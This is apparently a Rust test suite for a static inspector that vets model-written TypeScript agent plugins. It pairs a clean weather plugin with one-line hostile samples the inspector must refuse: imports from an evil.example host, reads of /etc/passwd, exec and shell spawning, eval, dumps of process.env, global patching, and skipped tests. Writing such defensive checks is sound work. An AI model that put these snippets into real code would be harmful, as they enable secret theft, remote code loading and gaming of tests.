//! Small sources, each refused for one reason; and a good plugin, refused for none.

use super::*;

/// A plugin as a careful author writes it.
const GOOD: &[(&str, &str)] = &[
    (
        "src/config.ts",
        r#"import { z } from 'zod'

export const configSchema = z.object({ WEATHER_API_TOKEN: z.string().min(1).optional() })
export type WeatherConfig = z.infer<typeof configSchema>
"#,
    ),
    (
        "src/actions/get-weather.ts",
        r#"import type { Action, ActionResult, HandlerCallback, IAgentRuntime, Memory, State } from '@elizaos/core'

/** The temperature of an answer, or nothing. */
export function temperatureOf(answer: unknown): number | undefined {
  if (typeof answer !== 'object' || answer === null || !('current' in answer)) return undefined
  const current = answer.current
  if (typeof current !== 'object' || current === null || !('temperature' in current)) return undefined
  return typeof current.temperature === 'number' ? current.temperature : undefined
}

export const getWeather: Action = {
  name: 'GET_WEATHER',
  description: 'Tells the weather of a city.',
  similes: ['WEATHER'],
  validate: async (_runtime: IAgentRuntime, message: Memory): Promise<boolean> => Boolean(message.content.text),
  handler: async (
    runtime: IAgentRuntime,
    message: Memory,
    _state?: State,
    _options?: Record<string, unknown>,
    callback?: HandlerCallback,
  ): Promise<ActionResult> => {
    const token = runtime.getSetting('WEATHER_API_TOKEN')
    const city = message.content.text ?? ''
    const response = await fetch(`https://api.example.com/v1/weather?q=${encodeURIComponent(city)}`, {
      headers: token ? { authorization: `Bearer ${String(token)}` } : {},
      signal: AbortSignal.timeout(5000),
    })
    const temperature = temperatureOf(await response.json())
    if (temperature === undefined) return { success: false, text: 'no temperature', error: new Error('no temperature') }
    const text = `It is ${temperature} degrees in ${city}.`
    await callback?.({ text })
    return { success: true, text, data: { actionName: 'GET_WEATHER', temperature } }
  },
  examples: [],
}
"#,
    ),
    (
        "src/index.ts",
        r#"import type { Plugin } from '@elizaos/core'
import { logger } from '@elizaos/core'

import { getWeather } from './actions/get-weather.js'
import { configSchema } from './config.js'

export const weatherPlugin: Plugin = {
  name: '@acme/plugin-weather',
  description: 'Weather on request.',
  init: async (config) => {
    configSchema.parse(config)
    logger.info('weather plugin is ready')
  },
  actions: [getWeather],
}

export default weatherPlugin
"#,
    ),
    (
        "__tests__/weather.test.ts",
        r#"import { describe, expect, it, vi } from 'vitest'

import { temperatureOf } from '../src/actions/get-weather.js'
import plugin from '../src/index.js'

describe('weather', () => {
  it('finds the temperature', () => {
    expect(temperatureOf({ current: { temperature: 7 } })).toBe(7)
  })

  it('refuses what has none', () => {
    expect(temperatureOf({})).toBeUndefined()
    expect(temperatureOf(null)).toBeUndefined()
  })

  it('has its action', () => {
    expect(plugin.actions?.map((action) => action.name)).toEqual(['GET_WEATHER'])
    const spy = vi.fn()
    spy(1)
    expect(spy).toHaveBeenCalledWith(1)
  })
})
"#,
    ),
];

fn files(of: &[(&str, &str)]) -> FileSet {
    of.iter()
        .map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec()))
        .collect()
}

fn policy() -> Policy {
    let environment = ["DECLARED".to_owned()].into();
    Policy {
        environment,
        ..Policy::with_packages(["zod".to_owned()])
    }
}

/// The codes for a source beside a good test, or for a test.
fn codes(path: &str, text: &str) -> Vec<String> {
    let mut set = files(&[
        ("src/other.ts", "export const x = 1\n"),
        ("__tests__/ok.test.ts", OK_TEST),
    ]);
    set.insert(path.to_owned(), text.as_bytes().to_vec());
    let found = inspect(&set, &policy()).diagnostics;
    assert!(found.iter().all(|one| one.file == path), "{found:?}");
    found.into_iter().map(|one| one.code).collect()
}

const OK_TEST: &str = "import { it, expect } from 'vitest'\nit('x', () => { expect(1).toBe(1) })\n";

#[test]
fn a_good_plugin_is_refused_for_nothing() {
    let inspection = inspect(&files(GOOD), &policy());
    assert_eq!(inspection.diagnostics, []);
    assert_eq!(inspection.test_count, 3);
    assert_eq!(inspection.tests.get("__tests__/weather.test.ts"), Some(&3));
    assert!(inspection.multiplied.is_empty());
    let reach = inspection.capabilities;
    assert_eq!(
        reach.hosts.into_iter().collect::<Vec<_>>(),
        ["api.example.com"]
    );
    assert_eq!(
        reach.settings.into_iter().collect::<Vec<_>>(),
        ["WEATHER_API_TOKEN"]
    );
    assert_eq!(
        reach.packages.into_iter().collect::<Vec<_>>(),
        ["@elizaos/core", "vitest", "zod"]
    );
    assert!(reach.network && reach.node_modules.is_empty() && reach.environment.is_empty());
}

#[test]
fn each_hostile_source_is_refused_by_one_code() {
    for (text, code) in [
        ("export const x = (", "syntax"),
        (
            "import { readFileSync } from 'node:fs'\nreadFileSync('x')",
            "import-builtin",
        ),
        ("import fs from 'fs/promises'\nfs.rm('x')", "import-builtin"),
        (
            "import { exec } from 'child_process'\nexec('x')",
            "import-builtin",
        ),
        (
            "import { createRequire } from 'node:module'",
            "import-builtin",
        ),
        ("import vm from 'node:vm'", "import-builtin"),
        ("import process from 'node:process'", "import-builtin"),
        ("import { x } from 'node:made_up'", "import-builtin"),
        ("export { readFile } from 'node:fs'", "import-builtin"),
        ("export * from 'node:fs'", "import-builtin"),
        ("const m = await import('node:fs')", "import-builtin"),
        ("const m = await import(`node:fs`)", "import-builtin"),
        ("import { $ } from 'bun:jsc'", "import-refused"),
        ("import x from 'file:///etc/passwd'", "import-refused"),
        (
            "import x from 'https://evil.example/x.js'",
            "import-refused",
        ),
        ("import x from 'data:text/javascript,1'", "import-refused"),
        ("import x from '/etc/passwd'", "import-refused"),
        ("import x from './other.js?raw'", "import-refused"),
        ("import x from '@elizaos/core/../../x'", "import-refused"),
        ("import x from '../../x.js'", "import-outside"),
        ("import x from '../../../etc/secret.json'", "import-outside"),
        ("import x from './x.json'", "import-kind"),
        ("import x from './missing.js'", "import-missing"),
        ("import x from '../__tests__/ok.test.js'", "import-test"),
        ("import { it } from 'vitest'", "import-test"),
        ("import _ from 'lodash'", "dependency-unsupported"),
        ("import type { X } from 'lodash'", "dependency-unsupported"),
        ("type X = import('lodash').X", "dependency-unsupported"),
        ("const n = 'x'; await import(n)", "import-dynamic"),
        ("await import('node:' + 'fs')", "import-dynamic"),
        ("import fs = require('fs')", "require"),
        ("const fs = require('fs')", "require"),
        ("const r = require", "require"),
        (
            "/// <reference path=\"/etc/passwd\" />\nexport {}",
            "triple-slash",
        ),
        (
            "declare module '@elizaos/core' { interface Plugin { x: any } }",
            "module-augmentation",
        ),
        (
            "declare global { interface Array<T> { x: T } }\nexport {}",
            "module-augmentation",
        ),
        ("eval('1')", "code-from-text"),
        ("const e = eval; e('1')", "code-from-text"),
        ("(0, eval)('1')", "code-from-text"),
        ("new Function('return 1')()", "code-from-text"),
        ("globalThis.eval('1')", "code-from-text"),
        (
            "const f = (() => {}).constructor('return 1')",
            "code-from-text",
        ),
        (
            "const f = (async () => {})['constructor']('x')",
            "code-from-text",
        ),
        ("setTimeout('x()', 1)", "code-from-text"),
        ("process.exit(0)", "process-control"),
        ("process['exit'](0)", "process-control"),
        ("process?.exit?.(0)", "process-control"),
        ("(process as any).kill(1)", "process-control"),
        ("const { exit } = process", "process-control"),
        ("globalThis.process.exit()", "process-control"),
        ("globalThis['process'].exit()", "process-control"),
        ("process.binding('fs')", "process-control"),
        ("process.on('exit', () => {})", "process-control"),
        ("const g = globalThis", "global-access"),
        ("globalThis['pro' + 'cess'].exit()", "global-access"),
        ("Bun.spawn(['sh'])", "runtime-global"),
        ("Deno.exit()", "runtime-global"),
        ("new Worker('x')", "runtime-global"),
        ("const all = { ...process.env }", "environment-dynamic"),
        (
            "const n = 'A'; const v = process.env[n]",
            "environment-dynamic",
        ),
        (
            "const v = process.env.SECRET_THING",
            "undeclared-environment",
        ),
        (
            "const v = process.env['SECRET_THING']",
            "undeclared-environment",
        ),
        (
            "globalThis.fetch = async () => new Response()",
            "global-patching",
        ),
        ("Array.prototype.map = () => []", "global-patching"),
        ("JSON.parse = () => 1", "global-patching"),
        (
            "Object.defineProperty(Object.prototype, 'x', {})",
            "global-patching",
        ),
        ("Object.assign(globalThis, { x: 1 })", "global-patching"),
        ("Reflect.set(Promise, 'all', 1)", "global-patching"),
        ("delete Array.prototype.map", "global-patching"),
        ("const o = { a: {} }; o.__proto__.x = 1", "global-patching"),
        ("console.log = () => {}", "global-patching"),
        (
            "export default { name: 'x', models: { TEXT_LARGE: () => 'x' } }",
            "plugin-models",
        ),
        (
            "export default { name: 'x', ['models']: {} }",
            "plugin-models",
        ),
        (
            "const p: { models?: object } = {}; p.models = {}",
            "plugin-models",
        ),
        ("const d = import.meta.dirname", "import-meta"),
        ("// @ts-nocheck\nexport {}", "comment-suppression"),
        ("// @ts-ignore\nexport {}", "comment-suppression"),
        ("/* eslint-disable */ export {}", "comment-suppression"),
        (
            "// oxlint-disable-next-line no-eval\nexport {}",
            "comment-suppression",
        ),
        ("// @bun\nexport {}", "comment-suppression"),
    ] {
        assert_eq!(codes("src/x.ts", text), [code], "{text}");
    }
}

#[test]
fn what_is_usual_is_not_refused() {
    for text in [
        "import { x } from './other.js'\nimport { y } from './other'\nexport { x, y }",
        "import { createHash } from 'node:crypto'\nexport { createHash }",
        "import type { Stats } from 'node:fs'\nexport type X = Stats",
        "export const v = process.env.DECLARED ?? process.platform",
        "export const s = globalThis.setTimeout(() => {}, 1)",
        "class A { static models = 1 }\nexport default A",
        "export const list = { models: ['a'] }",
        "/* a comment about eval and @ts things */ export const ok = 1",
        "export class X { constructor() { this.x = 1 } x: number }",
        "export type F = Function",
        "const o = { a: 1 }; o.a = 2; delete (o as { a?: number }).a; export { o }",
        "const core = await import('@elizaos/core'); export { core }",
    ] {
        assert_eq!(codes("src/x.ts", text), [""; 0], "{text}");
    }
}

#[test]
fn tests_that_do_not_always_run_are_refused() {
    let head = "import { it, test, describe, expect, vi } from 'vitest'\n";
    for (text, code) in [
        ("it.skip('x', () => {})", "test-skipped"),
        ("it.todo('x')", "test-skipped"),
        ("it.skipIf(true)('x', () => {})", "test-skipped"),
        ("it['skip']('x', () => {})", "test-skipped"),
        ("it.fails('x', () => {})", "test-skipped"),
        (
            "describe.skip('x', () => { it('y', () => {}) })",
            "test-skipped",
        ),
        ("it('x', { skip: true }, () => {})", "test-skipped"),
        ("it('x', (ctx) => { ctx.skip() })", "test-skipped"),
        ("it.only('x', () => {})", "test-only"),
        (
            "describe.only('x', () => { it('y', () => {}) })",
            "test-only",
        ),
        ("if (expect) { it('x', () => {}) }", "test-conditional"),
        (
            "for (const n of [1]) { it(`x${n}`, () => {}) }",
            "test-conditional",
        ),
        ("expect && it('x', () => {})", "test-conditional"),
        (
            "const f = () => { it('x', () => {}) }\nf()",
            "test-conditional",
        ),
        (
            "[1].forEach(() => { it('x', () => {}) })",
            "test-conditional",
        ),
        ("const t = it\nt('x', () => {})", "test-dynamic"),
        ("it[String('skip')]('x', () => {})", "test-dynamic"),
        ("it.extend({})", "test-dynamic"),
        (
            "expect.extend({ toBe: () => ({ pass: true, message: () => '' }) })\nit('x', () => {})",
            "global-patching",
        ),
        (
            "expect.prototype = {}\nit('x', () => {})",
            "global-patching",
        ),
        (
            "vi.stubGlobal('process', {})\nit('x', () => {})",
            "global-patching",
        ),
        ("expect(1).toBe(1)", "no-tests"),
        ("process.exit(0)\nit('x', () => {})", "process-control"),
    ] {
        assert_eq!(
            codes("__tests__/x.test.ts", &format!("{head}{text}")),
            [code],
            "{text}"
        );
    }
    let alias = "import { it as x } from 'vitest'\nx('a', () => {})";
    assert_eq!(codes("__tests__/x.test.ts", alias), ["test-dynamic"]);
    let namespace = "import * as v from 'vitest'\nv.it('a', () => {})";
    assert_eq!(codes("__tests__/x.test.ts", namespace), ["test-dynamic"]);
    assert_eq!(
        codes("__tests__/x.test.ts", "it('a', () => {})"),
        ["test-import"]
    );
    assert_eq!(
        codes(
            "__tests__/x.test.ts",
            "import { test } from 'bun:test'\ntest('a', () => {})"
        )
        .len(),
        2
    );
}

#[test]
fn usual_tests_are_counted() {
    let text = "import { afterEach, describe, expect, it, test, vi } from 'vitest'\n\
        describe('a', () => {\n\
          it('b', async () => { expect(1).toBe(1) })\n\
          describe('c', function () { test.concurrent('d', () => {}) })\n\
        })\n\
        afterEach(() => { vi.restoreAllMocks() })\n\
        it('e', { timeout: 100 }, () => {\n\
          vi.spyOn(globalThis, 'fetch').mockResolvedValue(new Response('x'))\n\
          vi.stubGlobal('fetch', vi.fn())\n\
          globalThis.fetch = vi.fn()\n\
          if (1) expect(2).toBe(2)\n\
        })\n";
    let inspection = inspect(&files(&[("__tests__/a.test.ts", text)]), &policy());
    assert_eq!(inspection.diagnostics, []);
    assert_eq!((inspection.test_count, inspection.multiplied.len()), (3, 0));
    let text = "import { it } from 'vitest'\nit.each([1, 2])('a %i', () => {})\nit('b', () => {})";
    let inspection = inspect(&files(&[("__tests__/a.test.ts", text)]), &policy());
    assert_eq!(inspection.diagnostics, []);
    assert_eq!(inspection.test_count, 2);
    assert!(inspection.multiplied.contains("__tests__/a.test.ts"));
}

#[test]
fn only_files_that_a_model_may_write_pass() {
    for path in [
        "package.json",
        "tsconfig.json",
        "src/x.js",
        "src/x.d.ts",
        "src/x.test.ts",
        "__tests__/helper.ts",
        "__tests__/x.json",
        "vitest.config.ts",
        ".npmrc",
        "src/../x.ts",
        "bunfig.toml",
        "src/x.mts",
        "src/x.tsx",
    ] {
        assert_eq!(codes(path, "export {}"), ["file-refused"], "{path}");
    }
    let mut ours = policy();
    ours.own_files.insert("package.json".to_owned());
    let set = files(&[("package.json", "{"), ("__tests__/ok.test.ts", OK_TEST)]);
    assert_eq!(inspect(&set, &ours).diagnostics, []);
}

#[test]
fn nothing_to_inspect_is_no_tests() {
    let found = inspect(&FileSet::new(), &policy()).diagnostics;
    assert_eq!(
        found
            .iter()
            .map(|one| one.code.as_str())
            .collect::<Vec<_>>(),
        ["no-tests"]
    );
}

#[test]
fn a_syntax_error_has_its_place() {
    let set = files(&[
        ("src/x.ts", "const a = 1\nconst 😀 = =\n"),
        ("__tests__/ok.test.ts", OK_TEST),
    ]);
    let found = inspect(&set, &policy()).diagnostics;
    assert_eq!(
        (
            found[0].file.as_str(),
            found[0].line,
            found[0].code.as_str()
        ),
        ("src/x.ts", 2, "syntax")
    );
    let set = files(&[
        ("src/x.ts", "\n  process.exit(0)\n"),
        ("__tests__/ok.test.ts", OK_TEST),
    ]);
    let found = inspect(&set, &policy()).diagnostics;
    assert_eq!((found[0].line, found[0].column), (2, 3));
}

#[test]
fn strange_bytes_are_refused() {
    for (bytes, code) in [
        (vec![0xff, 0xfe, 0], "not-utf8"),
        (vec![b' '; 200 << 10], "too-large"),
        (b"(".repeat(50_000), "too-deep"),
        (b"[{".repeat(5_000), "too-deep"),
    ] {
        let set = FileSet::from([
            ("src/x.ts".to_owned(), bytes),
            (
                "__tests__/ok.test.ts".to_owned(),
                OK_TEST.as_bytes().to_vec(),
            ),
        ]);
        let found = inspect(&set, &policy()).diagnostics;
        assert_eq!(
            found
                .iter()
                .map(|one| one.code.as_str())
                .collect::<Vec<_>>(),
            [code]
        );
    }
    let many: FileSet = (0..500)
        .map(|index| (format!("src/x{index}.ts"), Vec::new()))
        .collect();
    assert_eq!(
        inspect(&many, &policy()).diagnostics[0].code,
        "too-many-files"
    );
}

/// Each is as long as a file may be and one single nest without a bracket.
#[test]
fn endless_nests_break_nothing() {
    for piece in [
        "!",
        "- ",
        "a=>",
        "a?",
        "a.",
        "a+",
        "typeof ",
        "new ",
        "if(1)",
        "A<",
        "keyof ",
        "`${",
        "x:",
        "await ",
        "async()=>",
        "a?b:",
        "a=",
        "a**",
        "()=>",
        "else ",
        "<a>",
        "a?.",
        "type A=",
        "a as ",
        "a!",
        "@a ",
        "a|",
    ] {
        for head in ["", "type A = ", "const a = "] {
            let text = format!("{head}{}", piece.repeat((120 << 10) / piece.len()));
            let set = FileSet::from([("src/x.ts".to_owned(), text.into_bytes())]);
            let started = std::time::Instant::now();
            let found = inspect(&set, &policy()).diagnostics;
            assert!(!found.is_empty());
            assert!(started.elapsed() < DEADLINE, "{head}{piece}");
        }
    }
}
